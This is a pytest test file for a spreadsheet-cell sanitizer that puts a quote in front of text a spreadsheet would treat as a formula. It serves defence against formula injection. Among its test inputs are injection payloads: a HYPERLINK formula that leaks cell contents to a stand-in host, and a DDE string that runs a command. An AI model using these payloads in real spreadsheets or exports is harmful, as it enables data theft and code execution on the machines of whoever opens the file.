"""Spreadsheet cells (CONTRACT.md §2, v1.2): no cell begins a formula unless it is a number."""

from __future__ import annotations

import pytest

from closedloop.schemas.cells import FORMULA_STARTS, spreadsheet_cell


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://example.com/?"&A1,"details")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
    "-1+2", "-", "+", "=", "@", "\t=1+1", "\r=1+1", "-2e", "+1)", "--1", "=1",
])
def test_a_text_that_a_spreadsheet_would_evaluate_gets_a_quote_in_front(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", [
    "-3", "+86", "-0.5", "+1.5e-3", "-.5", "-7.", "1e9", "42", "", "xuhui", "district-a",
    "'=already quoted", " =1+1", "{\"rounds\": [\"r1\"]}", "徐汇区", "a=b",
])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert spreadsheet_cell(text) == text


def test_the_formula_starts_are_the_contracts() -> None:
    assert frozenset({"=", "+", "-", "@", "\t", "\r"}) == FORMULA_STARTS
